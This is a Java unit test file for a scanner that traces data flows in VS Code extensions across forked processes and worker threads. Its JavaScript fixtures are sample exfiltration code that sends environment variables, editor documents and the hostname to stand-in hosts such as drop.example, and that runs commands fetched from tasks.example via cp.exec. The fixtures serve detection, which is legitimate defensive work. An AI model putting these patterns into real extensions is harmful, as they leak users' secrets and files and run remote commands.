package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vsxray.scanner.model.Trigger;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Data that crosses between the extension and the workers and processes that it starts. */
class WorkerMessagesTest {

    private static Analysis of(String client, String server) {
        return Analysis.of(Map.of(
                "extension.js", """
                const vscode = require('vscode'), cp = require('child_process'), path = require('path');
                const { Worker } = require('worker_threads');
                exports.activate = () => {
                """ + client + "\n};", "server.js", "const https = require('https');\n" + server));
    }

    @Test
    void what_is_sent_to_a_process_is_what_its_listener_is_given() {
        Analysis analysis = of("""
                const server = cp.fork(path.join(__dirname, 'server.js'));
                vscode.workspace.onDidOpenTextDocument(document => server.send({ uri: 1, text: document.getText() }));
                """, """
                process.on('message', message => {
                  const request = https.request('https://types.example/infer', { method: 'POST' });
                  request.end(message.text);
                });
                """);

        assertThat(analysis.destinations("editor-document", "network-send")).contains("https://types.example/infer");
        assertThat(analysis.triggers("editor-document", "network-send")).contains(Trigger.DOCUMENT_EVENT);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "cp.spawn(process.execPath, ['-e', CODE]).stdin.end(all)",
                "const node = cp.spawn('node', ['-e', CODE]); node.stdin.write(all); node.stdin.end()",
                "cp.execFileSync('node', ['-e', CODE], { input: all })",
            })
    void what_a_text_that_is_run_gathers_from_its_input_is_what_it_is_given(String start) {
        Analysis analysis = of(
                "const all = JSON.stringify(process.env), CODE = `let text = '';"
                        + " process.stdin.on('data', part => text += part).on('end', () =>"
                        + " require('https').request('https://types.example/infer', { method: 'POST' }).end(text));`;"
                        + start + ";",
                "");

        assertThat(analysis.destinations("environment", "network-send")).contains("https://types.example/infer");
    }

    @Test
    void another_part_of_the_message_is_not_the_document() {
        Analysis analysis = of("""
                const server = cp.fork(path.join(__dirname, 'server.js'));
                vscode.workspace.onDidOpenTextDocument(document => server.send({ uri: 1, text: document.getText() }));
                """, """
                process.on('message', message => {
                  const request = https.request('https://types.example/infer', { method: 'POST' });
                  request.end(String(message.uri));
                });
                """);

        assertThat(analysis.flows("editor-document", "network-send")).isEmpty();
    }

    @Test
    void what_a_worker_answers_is_what_the_extension_is_given() {
        Analysis analysis = of("""
                const worker = new Worker(path.join(__dirname, 'server.js'));
                worker.on('message', message => cp.exec(message.line));
                """, """
                fetch('https://tasks.example/next').then(reply => reply.text()).then(line =>
                  require('worker_threads').parentPort.postMessage({ line }));
                """);

        assertThat(analysis.flowNames()).contains("network-response -> process-command");
    }

    @Test
    void a_program_does_not_talk_to_itself() {
        Analysis analysis = of("""
                const server = cp.fork(path.join(__dirname, 'server.js'));
                vscode.workspace.onDidOpenTextDocument(document => server.send(document.getText()));
                process.on('message', text => fetch('https://types.example/infer', { method: 'POST', body: text }));
                """, "");

        assertThat(analysis.flows("editor-document", "network-send")).isEmpty();
    }

    @Test
    void a_worker_of_text_has_the_data_it_is_started_with() {
        Analysis analysis = of("""
                const source = `const { workerData, parentPort } = require('worker_threads');
                  fetch('https://drop.example/' + workerData.name);
                  parentPort.on('message', text => fetch('https://drop.example/in', { method: 'POST', body: text }));`;
                const worker = new Worker(source, { eval: true, workerData: { name: require('os').hostname() } });
                vscode.workspace.onDidSaveTextDocument(document => worker.postMessage(document.getText()));
                """, "");

        assertThat(analysis.flowNames())
                .contains("account-identity -> network-url", "editor-document -> network-send")
                .doesNotContain("editor-document -> network-url", "account-identity -> network-send");
    }
}
